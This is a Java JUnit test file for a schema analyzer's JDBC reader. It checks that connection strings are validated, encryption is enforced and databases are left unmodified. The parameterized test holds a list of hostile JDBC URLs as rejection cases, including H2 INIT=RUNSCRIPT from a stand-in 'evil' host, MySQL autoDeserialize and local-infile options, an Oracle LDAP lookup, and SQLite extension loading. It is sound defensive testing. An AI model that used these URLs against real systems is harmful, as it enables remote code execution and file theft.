package io.lakewright.analyzer.read.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.lakewright.analyzer.SourceReaders;
import io.lakewright.analyzer.read.ReadOptions;
import io.lakewright.core.ProblemException;
import io.lakewright.core.schema.SourceTable;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.HexFormat;
import java.util.List;
import java.util.Optional;
import java.util.Properties;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Addresses cannot do more than connect, drivers come from where the user put them, and nothing is written. */
class JdbcSafetyTest {

    @TempDir
    Path folder;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:mysql://h/d?allowLoadLocalInfile=true",
                "jdbc:mysql://h/d?autoDeserialize=true",
                "jdbc:mysql://h/d?user=a&queryInterceptors=evil.Class",
                "jdbc:mysql://address=(host=h)(allowLoadLocalInfile=true)/d",
                "jdbc:mysql://(host=h,autoDeserialize=true)/d",
                "jdbc:mysql:loadbalance://a,b/d",
                "jdbc:mysql://u:p@h/d",
                "jdbc:mariadb://h/d?allowLocalInfile=true",
                "jdbc:mariadb://h/d?socketFactory=evil.Class",
                "jdbc:sqlserver://h;socketFactoryClass=evil.Class",
                "jdbc:sqlserver://h;databaseName=d;trustStore=/etc/passwd",
                "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=tcp)))",
                "jdbc:oracle:thin:@ldap://evil:389/cn=x",
                "jdbc:oracle:thin:@//h/s?TNS_ADMIN=/tmp",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'",
                "jdbc:h2:file:/tmp/x;INIT=CREATE ALIAS X AS 'y'",
                "jdbc:h2:file:/tmp/x;TRACE_LEVEL_SYSTEM_OUT=3",
                "jdbc:h2:tcp://h/x",
                "jdbc:sqlite::memory:",
                "jdbc:sqlite::resource:http://evil/x.db",
                "jdbc:sqlite:/tmp/x.db?enable_load_extension=true",
                "jdbc:sqlite:file:/tmp/x.db?mode=rw",
                "jdbc:strange://h/d?anything=1",
                "jdbc:ldap:evil",
                "jdbc:"
            })
    void refusesAddressesThatCouldDoMoreThanConnect(String address) {
        assertThatThrownBy(() -> SourceReaders.open(address, ReadOptions.none()))
                .satisfiesAnyOf(
                        e -> assertThat(e).hasMessageContaining("LW-1580"),
                        e -> assertThat(e).hasMessageContaining("LW-1581"))
                .hasMessageNotContaining("evil");
    }

    @Test
    void namesTheParameterAndThoseThatAreTaken() {
        assertThatThrownBy(() -> JdbcAddress.parse("jdbc:mysql://h/d?autoDeserialize=true"))
                .hasMessageContaining("\"autoDeserialize\"")
                .isInstanceOfSatisfying(
                        ProblemException.class,
                        e -> assertThat(e.problem().nextStep()).contains("sslMode"));
    }

    @Test
    void encryptsBeyondThisMachineAndSwitchesOffWhatADriverCouldBeMadeToDo() {
        Properties mysql = properties("jdbc:mysql://db.example.org/shop?user=me&password=canary");
        Properties server = properties("jdbc:sqlserver://db.example.org:1433;databaseName=shop");
        JdbcAddress address = JdbcAddress.parse("jdbc:mysql://db.example.org/shop?user=me&password=canary");

        assertThat(mysql.getProperty("sslMode")).isEqualTo("VERIFY_IDENTITY");
        assertThat(mysql.getProperty("allowLoadLocalInfile")).isEqualTo("false");
        assertThat(mysql.getProperty("autoDeserialize")).isEqualTo("false");
        assertThat(server.getProperty("encrypt")).isEqualTo("true");
        assertThat(server.getProperty("trustServerCertificate")).isEqualTo("false");
        assertThat(properties("jdbc:mysql://localhost/shop")).doesNotContainKey("sslMode");
        assertThat(address.driverUrl() + address).doesNotContain("canary");
    }

    private static Properties properties(String address) {
        return JdbcAddress.parse(address).driverProperties(Optional.empty(), Optional.empty());
    }

    @Test
    void saysWhichJarToPutWhere() {
        assertThatThrownBy(() -> SourceReaders.open(
                        "jdbc:mysql://localhost/shop", ReadOptions.none().withDrivers(Optional.of(folder))))
                .hasMessageContaining("LW-1582")
                .isInstanceOfSatisfying(
                        ProblemException.class,
                        e -> assertThat(e.problem().nextStep()).contains("mysql-connector-j", folder.toString()));
    }

    @Test
    void loadsADriverFromTheFolderApartFromTheRest() throws Exception {
        Path jar = Path.of(org.h2.Driver.class
                .getProtectionDomain()
                .getCodeSource()
                .getLocation()
                .toURI());
        Files.copy(jar, folder.resolve("h2.jar"));
        Files.writeString(folder.resolve("broken.jar"), "no jar");
        JdbcAddress address = h2(folder.resolve("kept"));

        var driver = DriverFolder.among(address, folder).orElseThrow();

        assertThat(driver.getClass().getName()).isEqualTo("org.h2.Driver");
        assertThat(driver).isNotInstanceOf(org.h2.Driver.class);
        JdbcConnection connections = new JdbcConnection(address, driver, Optional.of("sa"), Optional.of(""));
        assertThat(JdbcReader.read(connections, List.of()).schema().tables()).hasSize(1);
    }

    private static JdbcAddress h2(Path file) throws SQLException {
        try (Connection connection = DriverManager.getConnection("jdbc:h2:file:" + file, "sa", "");
                Statement statement = connection.createStatement()) {
            statement.execute("CREATE TABLE t (id integer PRIMARY KEY)");
        }
        return JdbcAddress.parse("jdbc:h2:file:" + file);
    }

    @Test
    void leavesTheFileOfADatabaseAsItWasAndRefusesWrites() throws Exception {
        Path file = folder.resolve("shop.db");
        try (Connection connection = DriverManager.getConnection("jdbc:sqlite:" + file);
                Statement statement = connection.createStatement()) {
            statement.execute("CREATE TABLE parent (id integer PRIMARY KEY)");
            statement.execute("CREATE TABLE child (id integer PRIMARY KEY, a text, b text, p integer REFERENCES parent,"
                    + " gone integer REFERENCES nowhere)");
            statement.execute("CREATE UNIQUE INDEX whole ON child (a)");
            statement.execute("CREATE UNIQUE INDEX partly ON child (b) WHERE b > 'x'");
            statement.execute("INSERT INTO parent VALUES (1)");
            statement.execute("INSERT INTO child VALUES (1, 'a', 'b', 1, 1)");
        }
        String before = digest(file);
        String source = "jdbc:sqlite:" + file;
        SourceReaders.OpenedSource opened = SourceReaders.open(source, ReadOptions.none());
        SourceTable child = opened.schema().tables().stream()
                .filter(table -> table.name().table().equals("child"))
                .findFirst()
                .orElseThrow();

        assertThat(child.unique()).containsExactly(List.of("a"));
        assertThat(child.foreignKeys())
                .singleElement()
                .satisfies(key -> assertThat(key.referencedColumns()).containsExactly("id"));
        assertThat(opened.warnings())
                .singleElement()
                .satisfies(warning -> assertThat(warning).contains("nowhere"));
        assertThat(opened.rows().read(child.name(), 10)).isPresent();
        JdbcAddress address = JdbcAddress.parse(source);
        JdbcConnection connections =
                new JdbcConnection(address, DriverFolder.driver(address, folder), Optional.empty(), Optional.empty());
        try (Connection connection = connections.open();
                Statement statement = connection.createStatement()) {
            assertThatThrownBy(() -> statement.execute("DELETE FROM child")).isInstanceOf(SQLException.class);
            assertThatThrownBy(() -> statement.execute("SELECT load_extension('evil')"))
                    .isInstanceOf(SQLException.class);
        }
        assertThat(digest(file)).isEqualTo(before);
    }

    private static String digest(Path file) throws Exception {
        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(Files.readAllBytes(file)));
    }

    @Test
    void tellsAFileThatIsNoDatabaseAndADatabaseWithoutTables() throws Exception {
        Path text = Files.writeString(folder.resolve("text.db"), "this is a text and no database at all ".repeat(100));
        Path empty = folder.resolve("empty.db");
        try (Connection connection = DriverManager.getConnection("jdbc:sqlite:" + empty);
                Statement statement = connection.createStatement()) {
            statement.execute("CREATE TABLE t (x integer)");
            statement.execute("DROP TABLE t");
        }

        assertThatThrownBy(() -> SourceReaders.open("jdbc:sqlite:" + text, ReadOptions.none()))
                .hasMessageContaining("LW-1587");
        assertThatThrownBy(() -> SourceReaders.open("jdbc:sqlite:" + empty, ReadOptions.none()))
                .hasMessageContaining("LW-1588");
    }
}
